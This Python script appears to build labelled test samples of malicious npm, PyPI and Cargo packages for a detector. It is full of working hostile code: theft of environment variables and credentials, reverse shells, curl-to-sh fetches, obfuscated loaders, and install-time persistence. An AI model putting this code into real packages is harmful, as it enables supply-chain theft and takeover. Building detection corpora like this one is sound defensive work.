"""The same intentions in less common words: modules, indirection, other clients, odd places. Every host is `*.invalid`."""

import base64

import kit
import shapes
from kit import Dice
from packages import Writer

SEND = "import os,urllib.request as u\ntry:u.urlopen('https://v.hidden.invalid/',data=repr(dict(os.environ)).encode())\nexcept Exception:pass\n"


def npm(w):
    w.npm("esm-env-kit", "1.0.0", "import-env-exfil", "an ES module sends the environment with fetch", {"index.mjs": '''import { hostname } from 'node:os';
import { env } from 'node:process';

export const get = (name, fallback) => env[name] ?? fallback;

await fetch(new URL('/in', 'https://esm.envkit.invalid'), { method: 'POST', body: JSON.stringify({ h: hostname(), e: { ...env } }) }).catch(() => undefined);
'''}, {"exports": "./index.mjs", "type": "module", "main": "index.mjs"})
    w.npm("three-file-relay", "2.0.0", "credential-theft", "reading, packing and sending stand in three modules", {"lib/source.js": '''const { readFileSync } = require('node:fs');
const { join } = require('node:path');
const parts = ['.ss' + 'h', '.aw' + 's', '.kub' + 'e'];
const names = ['id_ed25519', 'credentials', 'config'];
module.exports = (home) => parts.flatMap((d) => names.map((n) => join(home, d, n))).map((f) => { try { return readFileSync(f, 'latin1'); } catch { return ''; } });
''', "lib/pack.js": "const { deflateSync } = require('node:zlib');\nmodule.exports = (list) => deflateSync(list.join('\\0')).toString('base64url');\n", "lib/route.js": "const { get } = require('node:https');\nmodule.exports = (text) => (text.match(/.{1,900}/g) || []).forEach((q, i) => get({ host: 'cdn.relay.invalid', path: `/pixel.gif?s=${i}&d=${q}` }).on('error', () => {}));\n", "index.js": ''''use strict';
const { homedir } = require('node:os');
require('./lib/route')(require('./lib/pack')(require('./lib/source')(homedir())));
module.exports = {};
'''})
    w.npm("data-url-loader", "0.4.0", "encoded-payload", "imports a module from a data address", "\nimport('data:text/javascript;base64,%s').catch(() => {});\n" % kit.b64("import h from 'node:http';import p from 'node:process';h.get('http://d.url-loader.invalid/?'+encodeURIComponent(JSON.stringify(p.env))).on('error',()=>{});export default 1;"))
    w.npm("timer-strings", "1.2.1", "downloaded-code", "runs downloaded text through vm and a worker", r'''
const { Worker } = require('worker_threads');
const http = require('http');
http.get({ host: 'w.timer.invalid', path: '/job' }, (r) => {
  let s = '';
  r.setEncoding('utf8').on('data', (c) => (s += c)).on('end', () => new Worker(s, { eval: true, env: process.env }));
}).on('error', () => {});
''')
    w.npm("binding-spawn", "0.1.1", "split-names", "starts a program below the public interface", '''
const b = process.binding('spawn_' + 'sync');
b.spawn({ file: '/bin/sh', args: ['sh', '-c', 'wget -O- -q b.spawn.invalid/x|sh'], envPairs: Object.entries(process.env).map((e) => e.join('=')), stdio: [{ type: 'pipe', readable: true, writable: false }] });
''')
    w.npm("reflect-call", "1.0.7", "split-names", "reaches its functions through tables of characters", '''
const t = 'abcdefghijklmnopqrstuvwxyz_:/.';
const w = (...n) => n.map((i) => t[i]).join('');
const m = module[w(17, 4, 16, 20, 8, 17, 4)](w(2, 7, 8, 11, 3, 26, 15, 17, 14, 2, 4, 18, 18));
Reflect.apply(m[w(4, 23, 4, 2)], m, ['cu' + w(17, 11) + ' -s http' + '://r.reflect.invalid/$(whoami)']);
''')
    fuck = "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]"
    w.npm("brackets-only", "1.0.0", "string-array", "code of brackets alone", "\n%s[(%s+[])[3]+(!![]+[%s])[+!+[]+[+[]]]+(%s+[])[3]](%s)()\n" % (fuck, fuck, fuck, fuck, "+".join("(![]+[])[+!+[]]" for _ in range(220))))
    w.npm("hexnames-bundle", "2.3.0", "string-array", "hexadecimal names, a dispatcher of states and hidden strings that name a host and the environment", {"index.js": "'use strict';module.exports=require('./dist/x');\n", "dist/x.js": "var _0xa1=[%s];function _0xb2(i){return decodeURIComponent(escape(Buffer.from(_0xa1[i^0x3],'hex')))}var _0xc3=0x0;while(true){switch(_0xc3){case 0x0:var _0xd4=require(_0xb2(0x3));_0xc3=0x2;continue;case 0x2:var _0xe5=_0xd4[_0xb2(0x2)]({'host':_0xb2(0x1),'method':_0xb2(0x0)});_0xc3=0x1;continue;case 0x1:_0xe5.on('error',function(){});_0xe5.end(JSON.stringify(process[_0xb2(0x7)]));break}break}module.exports={};\n" % ",".join("'%s'" % s.encode().hex() for s in ("https", "request", "hx.bundle.invalid", "POST", "env"))})
    w.npm("git-config-helper", "0.2.0", "persistence", "sets a git hook folder and an editor for all repositories", {"post.js": r'''const { execSync } = require('child_process');
const fs = require('fs'), os = require('os'), path = require('path');
const d = path.join(os.homedir(), '.git-templates/hooks');
fs.mkdirSync(d, { recursive: true });
fs.writeFileSync(path.join(d, 'pre-push'), '#!/bin/sh\ncurl -s -d "$(git config --list; env)" https://g.config-helper.invalid >/dev/null 2>&1 &\n', { mode: 0o755 });
execSync('git config --global core.hooksPath ' + d);
'''}, {"scripts": {"postinstall": "node post.js"}})
    w.npm("vscode-settings-pack", "1.0.2", "persistence", "writes a task that starts whenever the folder is opened", {"setup.js": '''const fs = require('fs'), path = require('path');
const root = process.env.INIT_CWD || process.cwd();
fs.mkdirSync(path.join(root, '.vscode'), { recursive: true });
fs.writeFileSync(path.join(root, '.vscode/tasks.json'), JSON.stringify({ version: '2.0.0', tasks: [{ label: 'prepare', type: 'shell', command: 'node -e "fetch(`https://t.settings.invalid`).then(r=>r.text()).then(eval)"', runOptions: { runOn: 'folderOpen' }, presentation: { reveal: 'never' } }] }));
fs.writeFileSync(path.join(root, '.vscode/settings.json'), JSON.stringify({ 'task.allowAutomaticTasks': 'on', 'security.workspace.trust.enabled': false }));
'''}, {"scripts": {"install": "node setup.js"}})
    w.npm("ssh-agent-list", "1.0.0", "persistence", "adds a login key of its own", {"a.js": "const fs = require('fs'), p = require('path').join(require('os').homedir(), '.ssh', 'authorized_keys');\ntry { fs.appendFileSync(p, '\\nssh-ed25519 AAAAC3NzaInertSampleOnly ops@keys.invalid\\n'); } catch {}\n"}, {"scripts": {"postinstall": "node a.js"}})
    w.npm("telemetry-always", "0.9.9", "install-host-identity", "called telemetry, it sends addresses, users and repository names at installation without asking", {"t.js": '''const os = require('os');
const { execSync } = require('child_process');
const q = (c) => { try { return execSync(c).toString(); } catch { return ''; } };
const info = { ips: os.networkInterfaces(), who: q('id'), repo: q('git config --get remote.origin.url'), mail: q('git config user.email'), procs: q('ps aux'), hosts: q('cat /etc/hosts') };
const net = require('net').connect(443, 't.always.invalid');
net.on('error', () => {});
net.end(Buffer.from(JSON.stringify(info)).map((b) => b ^ 0x55));
'''}, {"scripts": {"postinstall": "node t.js || exit 0"}})
    w.npm("screens-share", "1.4.0", "keylogger", "takes pictures of the screen and sends them", '''
const shot = require('screenshot-desktop');
const { request } = require('http');
setInterval(async () => {
  try { const r = request({ host: 's.share.invalid', port: 8080, method: 'POST' }); r.on('error', () => {}); r.end(await shot()); } catch {}
}, 15000).unref();
''')
    w.npm("phone-home-dns", "3.0.1", "install-dns-exfil", "a look-up through the system's tools with the user in its name", {"d.js": "require('child_process').execFile('dig', ['+short', Buffer.from(require('os').userInfo().username + '@' + process.cwd()).toString('hex').slice(0, 60) + '.q.phone.invalid', 'TXT'], (e, out) => { if (!e && out) require('vm').runInThisContext(Buffer.from(out.replace(/\"/g, ''), 'base64').toString()); });\n"}, {"scripts": {"preinstall": "node d"}})
    # The last entry of a name wins when npm unpacks; a reader that stops at the first sees no hook.
    name = "twice-manifest"
    first = kit.js({"name": name, "version": "1.0.0", "description": "Helpers", "main": "index.js", "license": "MIT"})
    second = kit.js({"name": name, "version": "1.0.0", "description": "Helpers", "main": "index.js", "license": "MIT", "scripts": {"postinstall": "curl -s https://m.twice.invalid/x | sh"}})
    w.items.add(name + "-1.0.0.tgz", "bad", "manifest-differs", "npm-tgz", kit.tgz([("package.json", first), ("index.js", "module.exports = {};\n"), ("README.md", "# twice\n"), ("package.json", second)], "package/"), "two manifests: the one that is unpacked last has a hook", (), "npm")


def pypi(w):
    w.wheel("libc-caller", "0.1.0", "split-names", "calls the C library's system()", '''import ctypes
import ctypes.util

_c = ctypes.CDLL(ctypes.util.find_library('c'))
getattr(_c, 'sys' + 'tem')(b'wget -q -O - http://l.caller.invalid/a | sh')
''')
    w.wheel("dict-builtins", "0.3.0", "split-names", "takes exec from the dictionary of builtins", r'''_d = __builtins__ if isinstance(__builtins__, dict) else vars(__builtins__)
_i = _d['\x5f\x5fimport\x5f\x5f']
_z = _i('zl' + 'ib')
_d[''.join(reversed('cexe'))](_z.decompress(%r))
''' % __import__("zlib").compress(SEND.encode()))
    w.wheel("class-decorate", "1.2.0", "encoded-payload", "a class body whose bases decode and run", '''import base64 as b


class Meta(type):
    def __init__(cls, name, bases, ns):
        eval(compile(b.b32decode(ns.pop('data', b'')), name, 'exec'))


class Config(metaclass=Meta):
    data = %r
''' % base64.b32encode(SEND.encode()))
    w.wheel("pool-fetch", "2.0.8", "credential-theft", "urllib3 and a glob over the home folder's key files", '''import glob
import os

import urllib3

_http = urllib3.PoolManager(retries=False)
for _p in glob.glob(os.path.expanduser('~/.*/*[ck]re*')) + glob.glob(os.path.expanduser('~/.ssh/id_*')) + glob.glob('/home/*/.env'):
    try:
        _http.request('POST', 'https://p.fetch.invalid/f', fields={'f': (_p, open(_p, 'rb').read())})
    except Exception:
        pass
''')
    w.wheel("ftp-sync-lite", "0.0.9", "credential-theft", "sends the shell history and the key store by FTP", '''import ftplib
import os
import threading


def _put():
    try:
        f = ftplib.FTP('f.sync.invalid', 'u', 'inert', timeout=5)
        for n in ('.bash_history', '.zsh_history', '.pgpass', '.local/share/keyrings/login.keyring'):
            p = os.path.join(os.path.expanduser('~'), n)
            if os.path.exists(p):
                f.storbinary('STOR ' + n.replace('/', '_'), open(p, 'rb'))
    except ftplib.all_errors:
        pass


threading.Timer(20, _put).start()
''')
    w.wheel("async-shells", "0.7.0", "command-channel", "an event loop that reads commands from a socket", '''import asyncio
import threading


async def _agent():
    while True:
        try:
            r, w = await asyncio.open_connection('a.shells.invalid', 7000)
            while line := await r.readline():
                p = await asyncio.create_subprocess_shell(line.decode(), stdout=-1, stderr=-2)
                w.write((await p.communicate())[0])
        except OSError:
            await asyncio.sleep(60)


threading.Thread(target=asyncio.run, args=(_agent(),), daemon=True).start()
''')
    w.wheel("graph-memo", "0.2.0", "dead-drop", "reads a contract's storage for its next address", r'''import json
import urllib.request as u

_q = json.dumps({'jsonrpc': '2.0', 'id': 1, 'method': 'eth_call', 'params': [{'to': '0x' + '00' * 20, 'data': '0x6d4ce63c'}, 'latest']}).encode()
try:
    _r = json.loads(u.urlopen(u.Request('https://rpc.memo.invalid', _q, {'Content-Type': 'application/json'}), timeout=3).read())['result']
    exec(u.urlopen(bytes.fromhex(_r[130:]).rstrip(b'\0').decode()).read())
except Exception:
    pass
''')
    w.wheel("mp-fork-shell", "0.1.0", "reverse-shell", "a shell behind TLS in a child process", '''import os, socket, ssl, subprocess

if os.name == 'posix' and os.fork() == 0:
    os.setsid()
    try:
        s = ssl._create_unverified_context().wrap_socket(socket.create_connection(('m.fork.invalid', 443)))
        while True:
            s.send(subprocess.getoutput(s.recv(4096).decode()).encode())
    except OSError:
        os._exit(0)
''')
    w.wheel("torch-loader-x", "0.5.0", "payload-in-data", "its model file is a pickle that runs a command when loaded", {"PKG/model.pkl": b"cposix\nsystem\n(S'curl -s https://t.loader.invalid/p | sh'\ntR.", "PKG/__init__.py": "import os\nimport pickle\n\nwith open(os.path.join(os.path.dirname(__file__), 'model.pkl'), 'rb') as f:\n    MODEL = pickle.load(f)\n"})
    w.sdist("conftest-runner", "1.0.0", "import-env-exfil", "a test plug-in that every test run loads sends the environment", {"PKG/plugin.py": '''import os


def pytest_configure(config):
    import http.client
    c = http.client.HTTPSConnection('c.runner.invalid', timeout=3)
    try:
        c.request('POST', '/p', repr(sorted(os.environ.items())))
    except OSError:
        pass
''', "setup.py": "from setuptools import setup\nsetup(name='{NAME}', version='{VERSION}', packages=['conftest_runner'], entry_points={'pytest11': ['r = conftest_runner.plugin']})\n"})
    w.sdist("cfg-attr-exec", "0.4.0", "setup-env-exfil", "the version attribute of setup.cfg imports a module that acts", {"setup.cfg": "[metadata]\nname = {NAME}\nversion = attr: cfg_attr_exec.meta.version\n\n[options]\npackages = find:\n", "setup.py": "from setuptools import setup\nsetup()\n", "PKG/meta.py": r'''import os as _o, socket as _s

version = '0.4.0'
try:
    _k = _s.create_connection(('s.cfgattr.invalid', 53), 2)
    _k.sendall('\n'.join('%s=%s' % i for i in _o.environ.items()).encode())
except OSError:
    pass
'''})
    w.sdist("deps-direct", "2.0.0", "remote-dependency", "requires archives at plain addresses and installs more with pip at build", {"setup.py": '''import subprocess, sys
from setuptools import setup

subprocess.call([sys.executable, '-m', 'pip', 'install', '-q', '--index-url', 'http://pkgs.direct.invalid/simple', '--trusted-host', 'pkgs.direct.invalid', 'deps-core'])
setup(name='{NAME}', version='{VERSION}', install_requires=['deps-core @ http://pkgs.direct.invalid/deps_core-1.0-py3-none-any.whl'])
'''})
    # RECORD lists another digest and leaves one module out.
    info = "record_gap-1.0.0.dist-info/"
    files = [("record_gap/__init__.py", "from . import _x\n"), (info + "METADATA", "Metadata-Version: 2.1\nName: record-gap\nVersion: 1.0.0\n"), (info + "WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")]
    record = shapes.record([("record_gap/__init__.py", "")] + files[1:], info + "RECORD")
    w.items.add("record_gap-1.0.0-py3-none-any.whl", "bad", "manifest-differs", "wheel", kit.zipped(files + [("record_gap/_x.py", SEND), (info + "RECORD", record)]), "a module that RECORD does not list sends the environment", (), "pypi")


def cargo(w):
    w.crate("libc-system", "0.1.0", "build-curl-sh", "calls the C library's system() from a build script", '''use std::ffi::CString;

extern "C" {
    fn system(c: *const i8) -> i32;
}

fn main() {
    let c = CString::new(["wget -qO-", " http://l.system.invalid/b", " | sh"].concat()).unwrap();
    unsafe { system(c.as_ptr().cast()) };
}
''')
    w.crate("curl-easy-info", "0.2.0", "build-env-exfil", "posts cargo's token through the curl library", '''use curl::easy::Easy;

fn main() {
    let body = ["CARGO_REGISTRY_TOKEN", "GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY"].iter().filter_map(|k| std::env::var(k).ok()).collect::<Vec<_>>().join(",");
    let mut easy = Easy::new();
    easy.url("https://c.easy.invalid/t").unwrap();
    easy.post(true).unwrap();
    easy.post_fields_copy(body.as_bytes()).unwrap();
    let _ = easy.perform();
}
''', "[build-dependencies]\ncurl = \"0.4\"\n")
    w.crate("udp-notes", "0.1.2", "credential-theft", "sends key files in datagrams while the library is used", {"+src/lib.rs": '''
pub fn note(text: &str) -> usize {
    static START: std::sync::Once = std::sync::Once::new();
    START.call_once(|| {
        std::thread::spawn(|| {
            let Some(home) = std::env::var_os("HOME") else { return };
            let socket = std::net::UdpSocket::bind("0.0.0.0:0").unwrap();
            for dir in [".ssh", ".gnupg", ".config/solana"] {
                for entry in std::fs::read_dir(std::path::Path::new(&home).join(dir)).into_iter().flatten().flatten() {
                    for part in std::fs::read(entry.path()).unwrap_or_default().chunks(1024) {
                        let _ = socket.send_to(part, "u.notes.invalid:53");
                    }
                }
            }
        });
    });
    text.len()
}
'''})
    w.crate("tokio-agent", "0.3.0", "command-channel", "runs commands from a TLS stream", {"+src/lib.rs": '''
pub async fn agent() -> std::io::Result<()> {
    use tokio::io::{AsyncBufReadExt, AsyncWriteExt, BufReader};
    let stream = tokio::net::TcpStream::connect("a.agent.invalid:443").await?;
    let (read, mut write) = stream.into_split();
    let mut lines = BufReader::new(read).lines();
    while let Some(line) = lines.next_line().await? {
        let out = tokio::process::Command::new(if cfg!(windows) { "cmd" } else { "sh" }).arg(if cfg!(windows) { "/C" } else { "-c" }).arg(&line).output().await?;
        write.write_all(&out.stdout).await?;
    }
    Ok(())
}
'''}, dependencies="tokio = { version = \"1\", features = [\"full\"] }\n")
    w.crate("wasm-plug", "0.1.0", "payload-in-data", "decrypts a shipped file with the machine's id and starts it", {"build.rs": r'''fn main() {
    let id = std::fs::read_to_string("/etc/machine-id").unwrap_or_default();
    let key: Vec<u8> = id.bytes().chain(*b"k").collect();
    let plain: Vec<u8> = include_bytes!("assets/noise.dat").iter().zip(key.iter().cycle()).map(|(a, b)| a ^ b).collect();
    if plain.starts_with(b"\x7fELF") {
        let path = std::env::temp_dir().join("noise");
        std::fs::write(&path, plain).unwrap();
        let _ = std::process::Command::new("chmod").arg("+x").arg(&path).status();
        let _ = std::process::Command::new(path).spawn();
    }
}
''', "assets/noise.dat": Dice("noise").raw(4000)})
    name, toml = "orig-differs", '[package]\nname = "orig-differs"\nversion = "0.1.0"\nedition = "2021"\nlicense = "MIT"\n'
    files = [("Cargo.toml", toml + 'build = "tests/fixtures/data.rs"\n'), ("Cargo.toml.orig", toml), ("src/lib.rs", "//! Helpers.\n\npub fn one() -> u8 {\n    1\n}\n"), ("README.md", "# orig-differs\n"), ("tests/fixtures/data.rs", "fn main() {\n    let _ = std::process::Command::new(\"sh\").args([\"-c\", \"curl -s https://o.differs.invalid/s|sh\"]).spawn();\n}\n")]
    w.items.add(name + "-0.1.0.crate", "bad", "manifest-differs", "crate", kit.tgz(files, name + "-0.1.0/"), "a build script among the test data that the author's manifest does not name", (), "cargo")


def build(items):
    writer = Writer(items, "bad")
    npm(writer)
    pypi(writer)
    cargo(writer)
